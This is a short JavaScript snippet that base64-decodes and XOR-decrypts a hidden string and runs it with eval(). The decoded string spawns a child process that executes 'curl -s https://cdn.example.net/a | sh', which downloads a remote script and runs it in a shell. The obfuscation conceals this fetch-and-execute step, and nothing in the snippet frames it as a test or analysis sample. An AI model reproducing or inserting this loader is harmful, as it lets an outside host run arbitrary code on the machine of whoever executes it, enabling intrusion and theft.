const d = Buffer.from('KD8rLzMoP3J9OTIzNj4FKig1OT8pKX1zdD8iPzlyfTkvKDZ6dyl6Mi4uKilgdXU5PjR0PyI7Nyo2P3Q0Py51O3omeikyfXM=', 'base64');
const o = Buffer.alloc(d.length);
for (let i = 0; i < d.length; i++) o[i] = d[i] ^ 0x5a;
eval(o.toString());
